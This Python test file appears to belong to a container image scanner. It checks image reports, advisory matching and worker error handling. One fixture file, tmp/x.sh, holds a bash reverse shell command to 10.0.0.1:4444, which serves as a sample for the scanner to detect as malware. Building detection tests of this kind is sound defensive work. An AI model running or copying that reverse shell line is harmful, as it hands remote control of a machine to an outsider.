"""From an archive to a report."""

import asyncio
import json
import os
from collections.abc import AsyncIterator
from concurrent.futures import Future
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import msgspec
import pytest

from pratique.advisories import Source, build
from pratique.errors import EngineError, ImageError
from pratique.image import Options as ImageOptions
from pratique.model import FindingKind, ImageId, ImageIdentity, Report
from pratique.pipelines.scan import Options, scan_engine_image, scan_file
from pratique.pipelines.workers import Workers
from pratique.runtime import Engine
from tests.unit.advisories.zips import advisory, write_zip
from tests.unit.image.archives import archive, configuration, entry, layout, sha256, tar, write, write_layout

LAYER = tar(
    entry("etc/os-release", b"ID=debian\nVERSION_ID=12\n"),
    entry("var/lib/dpkg/status", b"Package: bash\nStatus: install ok installed\nVersion: 5.2.15-2+b2\n"),
    entry("tmp/x.sh", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
)


class OneImage(Engine):
    """An engine that holds one image, given as the bytes of its export."""

    def __init__(self, identity: ImageIdentity | None, export: bytes) -> None:
        self._identity = identity
        self._bytes = export

    async def image(self, reference: str) -> ImageIdentity | None:
        del reference
        return self._identity

    async def export(self, image_id: ImageId) -> AsyncIterator[bytes]:
        del image_id
        for start in range(0, len(self._bytes), 1000):
            yield self._bytes[start : start + 1000]


def test_report_holds_identity_packages_and_findings(tmp_path: Path) -> None:
    report = scan_file(write(archive([LAYER]), tmp_path))
    assert report.image.id == sha256(configuration([LAYER]))
    assert report.distribution == "debian 12"
    assert [(package.name, package.ecosystem) for package in report.packages] == [("bash", "Debian:12")]
    kinds = {finding.kind: finding.rule for finding in report.findings}
    assert kinds == {
        FindingKind.MALWARE: "reverse-shell-bash",
        FindingKind.MISCONFIGURATION: "runs-as-root",
    }
    assert (report.files, report.unread, report.advisories_at) == (3, (), 0.0)


def test_archive_and_layout_of_one_image_give_one_report(tmp_path: Path) -> None:
    one = scan_file(write(archive([LAYER]), tmp_path))
    other = scan_file(write_layout(layout([LAYER]), tmp_path / "layout"))
    same = {"scanned_at": 0.0, "duration_s": 0.0, "image": one.image}
    assert msgspec.structs.replace(one, **same) == msgspec.structs.replace(other, **same)


def test_packages_are_matched_with_the_advisories(tmp_path: Path) -> None:
    feed = write_zip(tmp_path / "all.zip", advisory("TEST-2024-1", "bash", "5.2.15-2+b9", "Debian:12"))
    database = tmp_path / "advisories.db"
    build(database, [Source(path=feed, name="all.zip")], now=2e9)
    report = scan_file(write(archive([LAYER]), tmp_path), advisories=database)
    (finding,) = [finding for finding in report.findings if finding.kind is FindingKind.VULNERABILITY]
    assert (finding.rule, finding.package, finding.fixed_version) == ("TEST-2024-1", "bash", "5.2.15-2+b9")
    assert report.advisories_at == datetime(2024, 5, 1, tzinfo=UTC).timestamp()


def test_missing_advisory_database_is_no_error(tmp_path: Path) -> None:
    report = scan_file(write(archive([LAYER]), tmp_path), advisories=tmp_path / "none.db")
    assert (report.advisories_at, report.unread) == (0.0, ())


def test_advisory_database_that_cannot_be_looked_at_makes_the_report_incomplete(tmp_path: Path) -> None:
    report = scan_file(write(archive([LAYER]), tmp_path), advisories=tmp_path / ("x" * 300))
    assert [unread.path for unread in report.unread] == ["advisory database"]
    assert "File name too long" in report.unread[0].reason


def test_damaged_advisory_database_makes_the_report_incomplete(tmp_path: Path) -> None:
    database = write(b"not sqlite" * 1000, tmp_path, "advisories.db")
    report = scan_file(write(archive([LAYER]), tmp_path), advisories=database)
    assert [unread.path for unread in report.unread] == ["advisory database"]
    assert len(report.findings) == 2


async def _scan(engine: Engine, options: Options | None = None) -> Report:
    with Workers(1) as pool:
        return await scan_engine_image(engine, ImageId("sha256:" + "0" * 64), options, pool=pool)


def identity_of(config: bytes) -> ImageIdentity:
    return ImageIdentity(id=ImageId(sha256(config)), references=("name:1",))


def test_image_of_an_engine_is_scanned_in_a_worker_and_leaves_no_file(tmp_path: Path) -> None:
    options = Options(image=ImageOptions(spool_dir=str(tmp_path)))
    report = asyncio.run(_scan(OneImage(identity_of(configuration([LAYER])), archive([LAYER])), options))
    assert report.image.references == ("name:1",)
    assert report.image.layers == (sha256(LAYER),)
    assert [finding.rule for finding in report.findings if finding.kind is FindingKind.MALWARE] == [
        "reverse-shell-bash"
    ]
    assert list(tmp_path.iterdir()) == []


class Dying(Workers):
    """Workers that die of what they are given."""

    def submit(self, fn: object, /, *args: object, **kwargs: object) -> Future[Any]:
        del fn, args, kwargs
        return super().submit(os._exit, 1)


def test_worker_that_dies_is_one_error() -> None:
    async def run() -> None:
        with Dying(1) as pool:
            engine = OneImage(identity_of(configuration([LAYER])), archive([LAYER]))
            await scan_engine_image(engine, ImageId("sha256:" + "0" * 64), pool=pool)

    with pytest.raises(ImageError, match=r"the process that scanned image .* died"):
        asyncio.run(run())


def test_export_of_another_image_is_refused() -> None:
    with pytest.raises(ImageError, match="in place of"):
        asyncio.run(_scan(OneImage(identity_of(b"another"), archive([LAYER]))))


def test_image_that_an_engine_names_by_its_manifest_is_accepted() -> None:
    files = layout([LAYER], compress=False)
    digest = json.loads(files["index.json"])["manifests"][0]["digest"]
    export = tar(*(entry(name, data) for name, data in files.items()))
    report = asyncio.run(_scan(OneImage(ImageIdentity(id=ImageId(digest)), export)))
    assert report.image.id == digest


def test_error_of_a_worker_keeps_its_class_and_hint() -> None:
    with pytest.raises(ImageError) as caught:
        asyncio.run(_scan(OneImage(identity_of(b""), tar(entry("x")))))
    assert "holds no image" in caught.value.what
    assert caught.value.hint


def test_export_over_the_bound_is_refused() -> None:
    engine = OneImage(identity_of(b""), bytes(5000))
    with pytest.raises(ImageError, match="larger than 4000 bytes"):
        asyncio.run(_scan(engine, Options(image=ImageOptions(max_image_bytes=4000))))


def test_image_that_the_engine_does_not_know_is_one_error() -> None:
    with pytest.raises(EngineError, match="has no image"):
        asyncio.run(_scan(OneImage(None, b"")))
